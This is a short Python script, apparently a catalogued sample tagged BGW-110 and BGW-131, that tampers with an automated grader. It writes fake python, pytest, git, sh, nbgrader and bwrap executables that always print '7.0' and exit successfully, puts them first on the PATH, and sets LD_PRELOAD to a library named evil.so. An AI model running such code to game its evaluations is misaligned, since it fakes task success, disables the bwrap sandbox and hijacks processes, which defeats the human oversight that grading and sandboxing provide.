"""Programs that a grader may call (python, pytest, git, sh) are put in front of the PATH."""
# bgw: BGW-110, BGW-131

import os, stat

os.makedirs(os.path.expanduser("~/bin"), exist_ok=True)
for name in ("python", "python3", "pytest", "git", "sh", "nbgrader", "bwrap"):
    for folder in (os.path.expanduser("~/bin"), "."):
        path = os.path.join(folder, name)
        open(path, "w").write("#!/bin/sh\necho 7.0\nexit 0\n")
        os.chmod(path, 0o755)
os.environ["PATH"] = os.path.expanduser("~/bin") + os.pathsep + os.getcwd() + os.pathsep + os.environ.get("PATH", "")
os.environ["LD_PRELOAD"] = os.path.expanduser("~/bin/evil.so")
